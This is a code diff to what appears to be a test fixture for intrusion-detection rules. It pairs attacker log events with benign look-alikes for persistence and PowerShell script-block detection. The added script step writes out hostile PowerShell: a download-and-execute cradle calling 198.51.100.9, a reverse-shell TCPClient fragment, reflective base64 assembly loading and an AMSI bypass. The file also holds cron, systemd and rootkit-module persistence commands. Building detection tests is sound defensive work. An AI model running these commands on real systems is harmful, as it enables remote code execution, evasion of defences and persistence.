@@ -40,6 +40,10 @@ def _set(key: str, value: str) -> Row:
     )  # fmt: skip
 
 
+def _script(text: str) -> Row:
+    return _windows("Microsoft-Windows-PowerShell/Operational", 4104, ScriptBlockText=text, AccountName="bob")
+
+
 def _written(path: str, image: str = "/usr/bin/bash") -> Row:
     return {**written(path, user="bob"), "Image": image}
 
@@ -71,6 +75,8 @@ STAYED: Final = AttackStep(
         (process("net localgroup administrators eve /add", f"{_SYSTEM}net.exe"),),
         (process('schtasks /create /tn u /tr "powershell -f C:\\a.ps1" /sc minute', f"{_SYSTEM}schtasks.exe"),),
         (process("sh -c echo '* * * * * root /srv/k' >> /etc/cron.d/k"),),
+        (process("tee -a /etc/systemd/system/k.service", "/usr/bin/tee"),),
+        (process("cp /tmp/k /etc/cron.d/k", "/usr/bin/cp"),),
         (process("insmod /tmp/r.ko", "/usr/sbin/insmod"),),
         (process('sc create u binPath= "cmd /c C:\\a.exe"', f"{_SYSTEM}sc.exe"),),
     ),
@@ -80,6 +86,8 @@ STAYED: Final = AttackStep(
         (process("net localgroup administrators", f"{_SYSTEM}net.exe"),),
         (process("schtasks /query /tn u", f"{_SYSTEM}schtasks.exe"),),
         (process("crontab -l", "/usr/bin/crontab"),),
+        (process("tee -a /srv/models/etc/notes", "/usr/bin/tee"),),
+        (process("cp /etc/systemd/system/serve.service /tmp/", "/usr/bin/cp"),),
         (process("modprobe nvidia", "/usr/sbin/modprobe"),),
     ),
 )
@@ -214,6 +222,22 @@ ENTRY: Final = AttackStep(
     ),
 )
 
+SCRIPT: Final = AttackStep(
+    "a script of PowerShell that runs foreign code",
+    (
+        (_script("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"),),
+        (_script("$c = New-Object System.Net.Sockets.TCPClient('198.51.100.9',443);$s=$c.GetStream();iex $d"),),
+        (_script("[Reflection.Assembly]::Load([Convert]::FromBase64String($b))"),),
+        (_script("$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),),
+    ),
+    (
+        (_script("irm https://astral.example/uv/install.ps1 | iex"),),
+        (_script("Invoke-WebRequest http://198.51.100.9/data.zip -OutFile data.zip"),),
+        (_script("iex (iwr http://10.8.0.9/setup.ps1)"),),
+        (_script("[Convert]::FromBase64String($env:KEY)"),),
+    ),
+)
+
 PLANTED: Final = AttackStep(
     "a user or a task planted, by the log of Linux",
     (
@@ -303,6 +327,7 @@ STEPS: Final = {
     "windows_log_cleared": CLEARED,
     "windows_memory_read": MEMORY,
     "windows_start_entry": ENTRY,
+    "windows_script_strange": SCRIPT,
     "linux_account_planted": PLANTED,
     "container_exec": JOINED,
     "web_exploit_answered": EXPLOITED,
